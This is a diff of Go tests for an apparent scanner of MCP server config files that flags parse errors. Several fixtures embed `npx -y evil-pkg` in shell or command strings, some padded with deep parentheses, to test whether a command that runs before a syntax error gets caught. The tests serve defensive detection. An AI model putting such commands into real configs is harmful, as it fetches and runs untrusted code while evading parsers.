@@ -241,11 +241,25 @@ func TestAutoApprovedTools(t *testing.T) {
 }
 
 func TestConfigParseError(t *testing.T) {
+	deep := strings.Repeat("(", 5000)
 	runCases(t, ConfigParseError, []ruleCase{
-		{name: "json", src: "{\"mcpServers\": {\"a\": }", want: 1, sev: Medium},
-		{name: "toml", path: ".codex/config.toml", src: "[mcp_servers.a\n", want: 1},
+		{name: "json", src: "{\"mcpServers\": {\"a\": }", want: 1, sev: High},
+		{name: "toml", path: ".codex/config.toml", src: "[mcp_servers.a\n", want: 1, sev: High},
 		{name: "valid", src: `{"mcpServers":{}}`, want: 0},
+		// sh runs the first line before it meets the error on the second.
+		{name: "shell syntax", src: server("sh", "-c", `npx -y evil-pkg\n(((`), want: 1, sev: High},
+		{name: "shell too deep", src: server("bash", "-c", "npx -y evil-pkg; "+deep), want: 1, sev: High},
+		{name: "command line too deep", src: `{"mcpServers":{"a":{"command":"npx -y evil-pkg ` + deep + `"}}}`, want: 1, sev: High},
+		{name: "shell fine", src: server("sh", "-c", "cd /srv && npx -y pkg@1.0.0"), want: 0},
+		{name: "host path array", path: ".mcp.json", src: `[{"id": 1}]`, want: 1, sev: High},
 	})
+	// Controls: a data file that shares a generic name is no config.
+	if f := config.Parse("crush.json", []byte(`[{"id": 1}, {"id": 2}]`)); f != nil {
+		t.Errorf("crush.json data file: %+v", f)
+	}
+	if f := config.Parse("ext/manifest.json", []byte(`{"manifest_version": 3, "name": "x", "background": {"service_worker": "b.js"}}`)); f != nil {
+		t.Errorf("browser extension manifest: %+v", f)
+	}
 	fs := ids(scan(t, ".mcp.json", "{\n  \"mcpServers\": {\n    \"a\": }\n"), ConfigParseError.ID)
 	if len(fs) != 1 || fs[0].Pos.Line != 3 || fs[0].Pos.Col != 10 || !strings.Contains(fs[0].Message, "invalid character") {
 		t.Errorf("finding = %+v", fs)
